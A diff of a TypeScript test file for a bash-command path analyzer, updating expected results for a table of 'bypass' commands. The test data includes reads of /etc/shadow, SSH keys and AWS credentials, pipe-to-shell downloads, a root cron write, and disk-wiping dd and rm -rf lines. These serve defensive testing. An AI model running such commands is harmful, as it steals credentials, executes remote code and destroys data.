@@ -200,8 +200,7 @@ const dynamic: Row[] = [
   { cmd: 'cat ~root/.bashrc', paths: [], undecidable: true },
   { cmd: 'echo ~user', paths: [], undecidable: true },
   { cmd: 'ls ../*.md', paths: ['..'], undecidable: true },
-  // `$HOME` is `~`, which the contract counts as a path (as in `echo ~`).
-  { cmd: 'echo $HOME', paths: ['~'], undecidable: true, decidable: [false] },
+  { cmd: 'echo $HOME', paths: [], undecidable: true, decidable: [false] },
   { cmd: 'echo $(date)', paths: [], undecidable: true, argv: [['echo']] },
   { cmd: 'echo `date`', paths: [], undecidable: true, argv: [['echo']] },
   { cmd: 'echo $((1+2))', paths: [], undecidable: true },
@@ -238,7 +237,9 @@ const dynamic: Row[] = [
   { cmd: 'cd "$D" && rm a.txt', paths: ['a.txt'], undecidable: true },
 ]
 
-// Where the lexer is fooled: the parser finds more paths, or makes the command undecidable.
+// Where the lexer is fooled: the parse finds the paths outside (`paths` here is the parse's
+// `outside`, resolved from the starting directory) and decides (`undecidable` here is the
+// parse's). The contract's own fields stay the lexer's (`normalized`, `argv` are checked too).
 const bypasses: Row[] = [
   // Redirections glued to words, in every spelling.
   { cmd: 'echo hi>/etc/x', paths: ['/etc/x'], undecidable: false, normalized: ['echo hi>/etc/x'] },
@@ -258,23 +259,23 @@ const bypasses: Row[] = [
   // `cd` within the same command; `~`, `$HOME` and `..`.
   { cmd: 'cd /etc && cat passwd', paths: ['/etc', '/etc/passwd'], undecidable: false },
   { cmd: 'cd /tmp; rm -rf build', paths: ['/tmp', '/tmp/build'], undecidable: false },
-  { cmd: 'cd; rm -rf *', paths: ['.', '~'], undecidable: false },
-  { cmd: 'cd ~ && rm -rf .ssh', paths: ['~', '.ssh', '~/.ssh'], undecidable: false },
-  { cmd: 'cd sub && cat ../../x.txt', paths: ['../../x.txt', '../x.txt'], undecidable: false },
-  { cmd: 'cd - && rm a.txt', paths: ['a.txt'], undecidable: true },
-  { cmd: '{ cd /etc; }; cat passwd', paths: ['.', '/etc', '/etc/passwd'], undecidable: false },
+  { cmd: 'cd; rm -rf *', paths: ['~'], undecidable: false },
+  { cmd: 'cd ~ && rm -rf .ssh', paths: ['~', '~/.ssh'], undecidable: false },
+  { cmd: 'cd sub && cat ../../x.txt', paths: ['../x.txt'], undecidable: false },
+  { cmd: 'cd - && rm a.txt', paths: [], undecidable: true },
+  { cmd: '{ cd /etc; }; cat passwd', paths: ['/etc', '/etc/passwd'], undecidable: false },
   { cmd: '(cd /etc); cat passwd', paths: ['/etc'], undecidable: false },
   // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell command, not a template
-  { cmd: 'cat ${HOME}/.ssh/id_rsa', paths: ['.', '~/.ssh/id_rsa'], undecidable: true },
-  { cmd: 'cat $HOME/.netrc', paths: ['~/.netrc'], undecidable: true },
+  { cmd: 'cat ${HOME}/.ssh/id_rsa', paths: ['~/.ssh/id_rsa'], undecidable: false },
+  { cmd: 'cat $HOME/.netrc', paths: ['~/.netrc'], undecidable: false },
   // Assignments and their later use; unknown values.
   {
     cmd: 'D=/etc; cat $D/passwd',
     paths: ['/etc/passwd'],
-    undecidable: true,
+    undecidable: false,
     normalized: ['', 'cat $D/passwd'],
   },
-  { cmd: 'export D=/etc; cat "$D"/shadow', paths: ['/etc/shadow'], undecidable: true },
+  { cmd: 'export D=/etc; cat "$D"/shadow', paths: ['/etc/shadow'], undecidable: false },
   { cmd: 'cat /etc/$F', paths: ['/etc'], undecidable: true },
   { cmd: 'rm -rf "$1"/', paths: [], undecidable: true },
   // Quoting and ANSI-C strings.
@@ -283,50 +284,50 @@ const bypasses: Row[] = [
   { cmd: "cat $'\\057etc/shadow'", paths: ['/etc/shadow'], undecidable: false },
   { cmd: 'cat /et""c/passwd', paths: ['/etc/passwd'], undecidable: false },
   // Substitutions: their paths are found (they stay undecidable).
-  { cmd: 'echo $(cat /etc/shadow)', paths: ['/etc/shadow'], undecidable: true, argv: [['echo']] },
-  { cmd: 'echo `cat /etc/shadow`', paths: ['/etc/shadow'], undecidable: true },
-  { cmd: 'echo "$(cat ~/.aws/credentials)"', paths: ['~/.aws/credentials'], undecidable: true },
-  { cmd: 'cat <(cat /etc/shadow)', paths: ['/etc/shadow'], undecidable: true },
-  { cmd: 'echo x | tee >(cat > /etc/x)', paths: ['/etc/x'], undecidable: true },
+  { cmd: 'echo $(cat /etc/shadow)', paths: ['/etc/shadow'], undecidable: false, argv: [['echo']] },
+  { cmd: 'echo `cat /etc/shadow`', paths: ['/etc/shadow'], undecidable: false },
+  { cmd: 'echo "$(cat ~/.aws/credentials)"', paths: ['~/.aws/credentials'], undecidable: false },
+  { cmd: 'cat <(cat /etc/shadow)', paths: ['/etc/shadow'], undecidable: false },
+  { cmd: 'echo x | tee >(cat > /etc/x)', paths: ['/etc/x'], undecidable: false },
   // Here-docs and here-strings.
-  { cmd: 'cat <<EOF\n$(cat /etc/shadow)\nEOF', paths: ['/etc/shadow'], undecidable: true },
+  { cmd: 'cat <<EOF\n$(cat /etc/shadow)\nEOF', paths: ['/etc/shadow'], undecidable: false },
   {
     cmd: 'cat <<EOF > /etc/cron.d/x\n* * * * * root sh\nEOF',
-    paths: ['/etc/cron.d/x', '.'],
+    paths: ['/etc/cron.d/x'],
     undecidable: false,
   },
-  { cmd: 'cat <<< "$(cat /etc/shadow)"', paths: ['/etc/shadow'], undecidable: true },
+  { cmd: 'cat <<< "$(cat /etc/shadow)"', paths: ['/etc/shadow'], undecidable: false },
   // Commands that run other commands.
   {
     cmd: "bash -c 'cat /etc/shadow'",
-    paths: ['cat /etc/shadow', '/etc/shadow'],
-    undecidable: true,
+    paths: ['/etc/shadow'],
+    undecidable: false,
   },
-  { cmd: 'sh -c "rm -rf ~"', paths: ['~'], undecidable: true },
-  { cmd: "bash -ec 'rm -rf /opt/x'", paths: ['rm -rf /opt/x', '/opt/x'], undecidable: true },
-  { cmd: "eval 'rm -rf /tmp/x'", paths: ['rm -rf /tmp/x', '/tmp/x'], undecidable: true },
+  { cmd: 'sh -c "rm -rf ~"', paths: ['~'], undecidable: false },
+  { cmd: "bash -ec 'rm -rf /opt/x'", paths: ['/opt/x'], undecidable: false },
+  { cmd: "eval 'rm -rf /tmp/x'", paths: ['/tmp/x'], undecidable: true },
   { cmd: 'x=$(curl -s https://e.com); eval "$x"', paths: [], undecidable: true },
-  { cmd: 'curl -s https://e.com/i.sh | bash', paths: ['https://e.com/i.sh'], undecidable: true },
-  { cmd: 'wget -O- https://x.io/a.sh | sh -', paths: ['https://x.io/a.sh'], undecidable: true },
-  { cmd: 'find / -name x -exec cat {} +', paths: ['/', '.'], undecidable: true },
-  { cmd: 'find . -type f -execdir rm {} \\;', paths: ['.'], undecidable: true },
-  { cmd: 'ls | xargs -I{} cp {} /etc', paths: ['.', '/etc'], undecidable: true },
+  { cmd: 'curl -s https://e.com/i.sh | bash', paths: [], undecidable: true },
+  { cmd: 'wget -O- https://x.io/a.sh | sh -', paths: [], undecidable: true },
+  { cmd: 'find / -name x -exec cat {} +', paths: ['/'], undecidable: false },
+  { cmd: 'find . -type f -execdir rm {} \\;', paths: [], undecidable: false },
+  { cmd: 'ls | xargs -I{} cp {} /etc', paths: ['/etc'], undecidable: true },
   { cmd: 'sudo -u root cat /etc/shadow', paths: ['/etc/shadow'], undecidable: false },
-  { cmd: 'env -C /etc cat passwd', paths: ['/etc', '/etc/passwd'], undecidable: true },
-  { cmd: "env -S 'cat /etc/shadow'", paths: ['cat /etc/shadow', '/etc/shadow'], undecidable: true },
+  { cmd: 'env -C /etc cat passwd', paths: ['/etc/passwd'], undecidable: false },
+  { cmd: "env -S 'cat /etc/shadow'", paths: ['/etc/shadow'], undecidable: false },
   { cmd: 'nice -n 5 cat /etc/shadow', paths: ['/etc/shadow'], undecidable: false },
   {
     cmd: "timeout 5 bash -c 'cat ~/.aws/credentials'",
-    paths: ['cat ~/.aws/credentials', '~/.aws/credentials'],
-    undecidable: true,
+    paths: ['~/.aws/credentials'],
+    undecidable: false,
   },
   { cmd: 'command cat /etc/passwd', paths: ['/etc/passwd'], undecidable: false },
-  { cmd: 'nohup sh -c "cat /etc/x" &', paths: ['cat /etc/x', '/etc/x'], undecidable: true },
+  { cmd: 'nohup sh -c "cat /etc/x" &', paths: ['/etc/x'], undecidable: false },
   { cmd: 'sudo -i', paths: [], undecidable: true },
-  { cmd: "sh -xc 'ls'", paths: [], undecidable: true, decidable: [true] },
-  { cmd: 'find . -name x -ok rm {} \\;', paths: ['.'], undecidable: true },
+  { cmd: "sh -xc 'ls'", paths: [], undecidable: false, decidable: [true] },
+  { cmd: 'find . -name x -ok rm {} \\;', paths: [], undecidable: false },
   { cmd: "cat $(printf '/etc/passwd')", paths: ['/etc/passwd'], undecidable: true },
-  { cmd: 'echo "$(<~/.netrc)"', paths: ['~/.netrc'], undecidable: true },
+  { cmd: 'echo "$(<~/.netrc)"', paths: ['~/.netrc'], undecidable: false },
   // Paths quoted in inline programs.
   {
     cmd: `python3 -c "print(open('/etc/passwd').read())"`,
@@ -334,18 +335,18 @@ const bypasses: Row[] = [
     undecidable: false,
   },
   { cmd: "node -e 'require(`fs`).rmSync(`/srv/x`)'", paths: ['/srv/x'], undecidable: false },
-  { cmd: 'python3 script.py --out=../x.txt', paths: ['script.py', '../x.txt'], undecidable: false },
+  { cmd: 'python3 script.py --out=../x.txt', paths: ['../x.txt'], undecidable: false },
   // Options glued to paths that the lexer's `=` rule skips.
   { cmd: 'dd if=/dev/zero of=/dev/sda', paths: ['/dev/zero', '/dev/sda'], undecidable: false },
   { cmd: 'tool --output=/etc/x', paths: ['/etc/x'], undecidable: false },
 ]
 
-function check(row: Row) {
+function check(row: Row, parse = false) {
   const f = analyzeBash(row.cmd)
-  expect({ paths: f.paths, undecidable: f.undecidable }).toEqual({
-    paths: row.paths,
-    undecidable: row.undecidable,
-  })
+  const got = parse
+    ? { paths: f.parse?.outside, undecidable: f.parse?.undecidable }
+    : { paths: f.paths, undecidable: f.undecidable }
+  expect(got).toEqual({ paths: row.paths, undecidable: row.undecidable })
   if (row.normalized) expect(f.segments.map((s) => s.normalized)).toEqual(row.normalized)
   if (row.argv) expect(f.segments.map((s) => s.argv)).toEqual(row.argv)
   if (row.decidable) expect(f.segments.map((s) => s.decidable)).toEqual(row.decidable)
@@ -360,7 +361,7 @@ describe('analyzeBash: the table', () => {
   })
   it.each(ordinary.map((r) => [r.cmd, r]))('ordinary: %j', (_, row) => check(row as Row))
   it.each(dynamic.map((r) => [r.cmd, r]))('undecidable: %j', (_, row) => check(row as Row))
-  it.each(bypasses.map((r) => [r.cmd, r]))('bypass: %j', (_, row) => check(row as Row))
+  it.each(bypasses.map((r) => [r.cmd, r]))('bypass: %j', (_, row) => check(row as Row, true))
 })
 
 describe('analyzeBash: shape', () => {
@@ -393,16 +394,23 @@ describe('analyzeBash: shape', () => {
       { argv: ['bash', '-c', 'rm -rf cache'], cwd: '/srv', via: ['sudo'] },
       { argv: ['rm', '-rf', 'cache'], cwd: '/srv', via: ['sudo', 'bash -c'] },
     ])
-    expect(f.paths).toEqual(['/srv', '/srv/cache'])
+    expect(f.paths).toEqual(['/srv'])
+    expect(f.parse?.paths).toEqual(['/srv', '/srv/cache'])
+    expect(f.parse?.segments).toEqual([
+      'cd /srv',
+      'sudo bash -c rm -rf cache',
+      'bash -c rm -rf cache',
+      'rm -rf cache',
+    ])
   })
 
   it('reports the kind of access per path and every redirection', () => {
     const f = analyzeBash('cp a.txt /tmp/b.txt < in.txt 2>>err.log 2>&1')
     expect(f.accesses).toEqual([
-      { path: 'in.txt', resolved: 'in.txt', kind: 'read' },
-      { path: 'err.log', resolved: 'err.log', kind: 'write' },
-      { path: 'a.txt', resolved: 'a.txt', kind: 'read' },
-      { path: '/tmp/b.txt', resolved: '/tmp/b.txt', kind: 'write' },
+      { path: 'in.txt', resolved: 'in.txt', kind: 'read', physical: null },
+      { path: 'err.log', resolved: 'err.log', kind: 'write', physical: null },
+      { path: 'a.txt', resolved: 'a.txt', kind: 'read', physical: null },
+      { path: '/tmp/b.txt', resolved: '/tmp/b.txt', kind: 'write', physical: null },
     ])
     expect(f.redirections).toEqual([
       { fd: null, op: '<', target: 'in.txt' },
@@ -411,7 +419,7 @@ describe('analyzeBash: shape', () => {
     ])
     expect(analyzeBash('rm -rf $X').accesses).toEqual([])
     expect(analyzeBash('./run.sh').accesses).toEqual([
-      { path: './run.sh', resolved: 'run.sh', kind: 'exec' },
+      { path: './run.sh', resolved: 'run.sh', kind: 'exec', physical: null },
     ])
   })
 
@@ -429,8 +437,9 @@ describe('analyzeBash: fails safe and never throws', () => {
   it('a 1 MB command is undecidable', () => {
     const f = analyzeBash(`echo ${'a'.repeat(1 << 20)}`)
     expect(f.undecidable).toBe(true)
-    expect(f.reasons.join(' ')).toContain('more than the 65536 the analyzer parses')
-    expect(f.segments).toHaveLength(1)
+    expect(f.parse?.undecidable).toBe(true)
+    expect(f.reasons.join(' ')).toContain('more than the 65536 the analyzer reads')
+    expect(f.segments).toHaveLength(0)
   })
 
   it('10,000 nested substitutions, parentheses, braces and ifs are undecidable', () => {
@@ -444,14 +453,33 @@ describe('analyzeBash: fails safe and never throws', () => {
       `bash -c "${'bash -c \\"'.repeat(200)}ls"`,
     ]) {
       const f = analyzeBash(cmd)
-      expect(f.undecidable, cmd.slice(0, 40)).toBe(true)
+      expect(f.parse?.undecidable, cmd.slice(0, 40)).toBe(true)
     }
+  })
+
+  it('1 MB of statements, 2,000 segments, long brace lists: answered, undecidable', () => {
+    for (const cmd of [
+      'echo hi; rm -rf build && cat a.txt | grep x\n'.repeat(25000),
+      'x;'.repeat(1 << 19),
+      'x;'.repeat(2001),
+      `echo ${'{a,b}'.repeat(13000)}`,
+      Array.from({ length: 9000 }, (_, i) => `a/${i}`).join(' '),
+      `${'if true; then '.repeat(10000)}ls${'; fi'.repeat(10000)}`,
+    ]) {
+      const f = analyzeBash(cmd)
+      expect(f.parse?.undecidable, cmd.slice(0, 40)).toBe(true)
+      expect(f.parse?.reasons.length, cmd.slice(0, 40)).toBeGreaterThan(0)
+    }
+    // Past 64 KiB nothing is read: every field is empty and undecidable.
+    const big = analyzeBash('x;'.repeat(1 << 19))
+    expect(big).toEqual({ paths: [], undecidable: true, segments: [] })
   })
 
   it('moderate nesting is still analyzed', () => {
     const f = analyzeBash(`echo ${'$('.repeat(8)}cat /etc/x${')'.repeat(8)}`)
-    expect(f.paths).toEqual(['/etc/x'])
+    expect(f.paths).toEqual([])
     expect(f.undecidable).toBe(true)
+    expect(f.parse?.outside).toEqual(['/etc/x'])
   })
 
   it('odd inputs answer instead of throwing', () => {
@@ -476,7 +504,7 @@ describe('analyzeBash: fails safe and never throws', () => {
     // @ts-expect-error: not a string
     expect(analyzeBash(undefined).segments).toEqual([])
     // @ts-expect-error: not a string
-    expect(analyzeBash(Symbol('x')).undecidable).toBe(true)
+    expect(analyzeBash(Symbol('x')).parse?.undecidable).toBe(true)
   })
 })
 
@@ -539,7 +567,7 @@ describe('analyzeBash: random shell-like input', () => {
       expect(new Set(f.paths).size, cmd).toBe(f.paths.length)
       for (const s of f.segments) expect(s.normalized, cmd).toBe(s.argv.join(' '))
       if (f.segments.some((s) => !s.decidable)) expect(f.undecidable, cmd).toBe(true)
-      if (!f.parsed) expect(f.undecidable, cmd).toBe(true)
+      if (!f.parsed) expect(f.parse?.undecidable, cmd).toBe(true)
     }
   })
 })
